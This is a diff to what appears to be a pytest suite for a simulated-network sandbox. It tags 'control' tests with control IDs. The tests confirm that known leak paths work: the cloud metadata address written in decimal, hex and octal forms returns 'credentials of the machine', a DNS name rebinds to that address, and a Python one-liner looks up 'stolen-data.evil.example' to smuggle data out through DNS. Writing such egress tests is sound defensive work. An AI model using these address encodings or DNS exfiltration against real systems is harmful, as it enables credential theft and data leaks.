@@ -37,6 +37,7 @@ def test_control_a_public_name_leads_to_a_private_server(internet, name):
     assert internet.curl(f"http://{name}/").stdout == "credentials of the machine\n"
 
 
+@pytest.mark.control("G14")
 def test_control_the_metadata_service_answers_in_every_spelling(internet):
     for address in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"):
         assert internet.curl(f"http://{address}/").stdout == "credentials of the machine\n", address
@@ -48,15 +49,18 @@ def test_control_the_hosts_own_service_answers_on_all_its_addresses(internet):
         assert internet.curl(f"http://{name}:{internets.OWN_PORT}/").stdout == "the host's own\n", name
 
 
+@pytest.mark.control("G4")
 def test_control_a_name_moves_between_two_questions(internet):
     assert dig(internet, "rebind.example", "4") + dig(internet, "rebind.example", "4") in (["93.184.216.34", "169.254.169.254"], ["169.254.169.254"] * 2)
 
 
+@pytest.mark.control("G7")
 def test_control_a_question_carries_data(internet):
     internet.host.run(host.PYTHON, "-c", "import socket\ntry: socket.getaddrinfo('stolen-data.evil.example', 80)\nexcept OSError: pass")
     assert ("A", "stolen-data.evil.example") in internet.dns_questions()
 
 
+@pytest.mark.control("G6")
 def test_control_udp_comes_through(internet):
     internet.host.run(host.PYTHON, "-c", f"""
 import socket
@@ -69,11 +73,13 @@ with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
     assert {"echo udp 53", "echo udp 443", "echo udp 7007"} <= {one["at"] for one in internet.seen() if one["data"] == "control"}
 
 
+@pytest.mark.control("G8")
 def test_control_a_server_with_many_names_answers_for_another_one(internet):
     said = internet.curl("--connect-to", "::one.example:443", "-H", "Host: two.example", "https://one.example/").stdout
     assert said == "two.example over 2.0\n"
 
 
+@pytest.mark.control("G12")
 def test_control_tcp_and_websockets_are_echoed(internet):
     internet.host.run(host.PYTHON, "-c", f"""
 import asyncio, socket, ssl, websockets
